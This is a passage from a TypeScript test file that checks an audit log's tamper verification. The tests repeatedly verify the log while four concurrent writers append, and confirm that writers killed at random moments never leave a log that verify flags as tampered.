  assert.equal(headFile(dir).seq, 240);
  assert.equal(CHECKPOINT_EVERY, 100);
});

test('verify run again and again while four processes append reports no tampering (it reads one consistent moment)', async () => {
  const dir = makeLog(5);
  const env = { ...process.env, WARDEN_HOME: dir };
  let running = 4;
  const writers = Array.from(
    { length: 4 },
    (_, k) =>
      new Promise<void>((resolve, reject) => {
        const p = spawn(process.execPath, ['--import', 'tsx', WRITER, '150', `v${k}`], { env, stdio: 'ignore' });
        p.on('exit', (code) => {
          running--;
          if (code === 0) resolve();
          else reject(new Error(`writer ${k} exited ${code}`));
        });
      }),
  );
  const verdicts: string[] = [];
  while (running > 0) {
    const out = await new Promise<string>((resolve) => {
      const v = spawn(process.execPath, [BIN, 'audit', 'verify', '--dir', dir]);
      let o = '';
      v.stdout.on('data', (d) => (o += d));
      v.on('exit', (code) => resolve(`${code} ${o}`));
    });
    verdicts.push(out);
  }
  await Promise.all(writers);
  assert.ok(verdicts.length >= 1);
  for (const v of verdicts) assert.match(v, /^0 /, v);
  assertIntact(dir);
});

test('writers killed at random moments never leave a log that verify calls tampered', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'warden-audit-rel-'));
  for (let round = 0; round < 5; round++) {
    const p = spawn(process.execPath, ['--import', 'tsx', WRITER, '100000', `k${round}`], {
      env: { ...process.env, WARDEN_HOME: dir },
    });
    let lines = 0;
    const stopAt = 20 + Math.floor(Math.random() * 40);
    p.stdout.on('data', (d: Buffer) => {
      lines += d.toString().split('\n').length - 1;
      if (lines >= stopAt) p.kill('SIGKILL');
    });
    await new Promise((r) => p.on('exit', r));
    const r = cli(['audit', 'verify', '--dir', dir]);
    assert.equal(r.status, 0, `round ${round}: ${r.stdout}`);
  }
});
